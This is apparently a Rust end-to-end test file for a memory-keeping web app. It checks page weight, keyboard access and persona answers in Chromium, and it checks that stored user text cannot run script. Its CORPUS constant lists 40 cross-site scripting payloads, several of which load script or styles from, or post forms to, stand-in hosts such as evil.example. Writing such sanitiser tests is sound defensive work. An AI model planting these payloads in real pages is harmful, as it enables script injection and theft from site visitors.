//! What pages ask of people, and what people's texts must not do to pages: looked at in a real Chromium.

use rustix::process::Signal;
use serde_json::json;

use crate::browser::Browser;
use crate::house::{CELLO, House, TEA, TWO, connect, register, write};
use crate::journeys::import;

/// What home, list and search may weigh, with everything that belongs to them.
const BUDGET: f64 = 100.0 * 1024.0;

#[tokio::test]
async fn pages_are_light_hold_still_and_need_no_mouse() {
    let Some(House { up, browser, _folder }) = House::open().await else {
        return;
    };

    for path in ["/", "/login", "/register"] {
        check(&browser, path).await;
    }
    register(&browser, "annie").await;
    connect(&browser).await;
    write(&browser, TEA).await;
    let memory = browser.address().await.split('?').next().expect("a path").to_owned();
    let of_memory = ["", "/edit", "/sharing", "/history"].map(|page| format!("{memory}{page}"));
    let pages = [
        "/memories",
        "/search?q=tea",
        "/memories/new",
        "/import",
        "/groups",
        "/connect",
        "/connections",
        "/activity",
        "/analytics",
        "/personas",
        "/personas/new",
        "/personas/questions",
        "/profile",
        "/admin",
    ];
    for path in pages.iter().copied().chain(of_memory.iter().map(String::as_str)) {
        check(&browser, path).await;
    }
    up.stop(Signal::TERM);
}

async fn check(browser: &Browser, path: &str) {
    browser.open(path).await;
    let burden = browser.burden().await;
    assert!(burden.bytes < BUDGET && burden.shift < 0.001, "{path}: {burden:?}");
    browser.assert_keyboard_reaches_all(path).await;
}

#[tokio::test]
async fn full_pages_of_long_memories_are_light_too() {
    let Some(House { up, browser, _folder }) = House::open().await else {
        return;
    };
    register(&browser, "annie").await;
    connect(&browser).await;
    let long = |number: u32| {
        let tags: Vec<String> = (0..10).map(|tag| format!("{tag} of {number} {}", "long ".repeat(11).trim())).collect();
        let text = format!("Memory {number} {}", "with very many words ".repeat(40));
        format!("{}\n", json!({ "text": text, "tags": tags, "category": "long ".repeat(12).trim() }))
    };
    import(&browser, &(0..25).map(long).collect::<String>()).await;

    for path in ["/memories", "/search?q=many+words&mode=keyword"] {
        check(&browser, path).await;
        browser.count(".item", 20).await;
    }
    up.stop(Signal::TERM);
}

#[tokio::test]
async fn a_persona_answers_while_one_watches_and_names_its_sources() {
    ask_a_persona(&[]).await;
}

#[tokio::test]
async fn a_persona_of_two_servers_answers_while_one_watches() {
    ask_a_persona(&TWO).await;
}

async fn ask_a_persona(arguments: &[&str]) {
    let Some(House { up, browser, _folder }) = House::open_with(arguments).await else {
        return;
    };
    register(&browser, "shirley").await;
    connect(&browser).await;
    write(&browser, CELLO).await;

    browser.open("/personas/new").await;
    browser.fill("name", "My family").await;
    browser.press("Make the persona").await;
    browser.see("Your changes are saved.").await;
    let page = browser.address().await;
    browser.fill("prompt", "Which instrument does my sister Clara play?").await;
    browser.press("Ask").await;
    browser.see("What it rests on").await;

    assert!(browser.text_of(".sources").await.contains(CELLO), "the memory is named");
    assert_eq!(browser.address().await, page, "the answer came into the page that was there");
    browser.assert_harmless("an answer").await;
    browser.look("persona-answer").await;
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    up.stop(Signal::TERM);
}

#[tokio::test]
async fn an_import_is_sent_and_followed_by_the_pages_script() {
    let Some(House { up, browser, _folder }) = House::open().await else {
        return;
    };
    register(&browser, "grace").await;
    connect(&browser).await;

    browser.open("/import").await;
    let page = browser.address().await;
    browser.press("Start the import").await;
    browser.see("Choose a file or put its text here").await;
    assert_eq!(browser.address().await, page, "what is refused leaves the page as it was");
    browser.fill("text", "text,tags\nMy tea is green,\"[\"\"drinks\"\"]\"\n").await;
    browser.press("Start the import").await;
    browser.see("1 of the rows are stored or were here already.").await;
    browser.look("import-done").await;
    browser.open("/memories/new").await;
    browser.click("#tags").await;
    browser.see("drinks").await;

    browser.assert_harmless("suggestions").await;
    up.stop(Signal::TERM);
}

/// What OWASP's sheet on cross-site scripting and the advisories of HTML cleaners have taught.
pub(crate) const CORPUS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onend=alert(1) attributeName=x dur=1ms></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css';*{visibility:hidden}</style>",
    "<div style=\"position:fixed;inset:0\" id=content class=problem>overlay</div>",
    "<form action=https://evil.example><input name=csrf><button>Go</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "</textarea></main></body><script>alert(1)</script>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x0A;script:alert(1)) [d](&#106;avascript:alert(1))",
    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](vbscript:msgbox(1)) <javascript:alert(1)>",
    "![g](https://spy.example/pixel.png) ![h](javascript:alert(1))",
    "[i](https://x.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n\n# heading {#content onclick=alert(1)}",
];
/// Tags and a category that end the attribute they are in.
pub(crate) const IN_ATTRIBUTES: &str = "\"><img src=x onerror=alert(1)>";

#[tokio::test]
async fn nothing_that_somebody_wrote_runs_web_01() {
    let Some(House { up, browser, _folder }) = House::open().await else {
        return;
    };
    register(&browser, "mae").await;
    connect(&browser).await;

    browser.open("/memories/new").await;
    browser.fill("text", &CORPUS.join("\n\n")).await;
    browser.fill("tags", IN_ATTRIBUTES).await;
    browser.fill("category", IN_ATTRIBUTES).await;
    browser.press("Preview").await;
    browser.see("overlay").await;
    browser.assert_harmless("the preview").await;
    browser.press("Remember this").await;
    browser.see("Your memory is stored.").await;
    let memory = browser.address().await.split('?').next().expect("a path").to_owned();
    browser.open("/profile").await;
    browser.fill("display_name", IN_ATTRIBUTES).await;
    browser.fill("bio", CORPUS[0]).await;
    browser.click("form[action='/profile/public'] button").await;
    browser.see("Your settings are saved.").await;

    let of_memory = ["", "/edit", "/sharing", "/history"].map(|page| format!("{memory}{page}"));
    let others =
        ["/memories", "/search?q=overlay", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "/profile", "/analytics"];
    for path in others.iter().copied().chain(of_memory.iter().map(String::as_str)) {
        browser.open(path).await;
        browser.assert_harmless(path).await;
    }
    let refusals: Vec<String> = browser.complaints().await;
    assert_eq!(refusals, Vec::<String>::new(), "WEB-01: nothing was there that the policy had to refuse");
    up.stop(Signal::TERM);
}
